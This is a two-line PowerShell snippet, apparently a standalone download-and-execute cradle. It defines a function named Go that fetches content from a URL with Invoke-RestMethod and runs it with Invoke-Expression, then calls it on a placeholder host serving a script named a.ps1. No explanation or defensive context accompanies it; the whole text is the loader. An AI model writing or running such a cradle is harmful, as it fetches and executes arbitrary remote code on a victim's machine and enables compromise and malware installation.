function Go($u) { iex (irm $u) }
Go https://cdn-x7.invalid/a.ps1
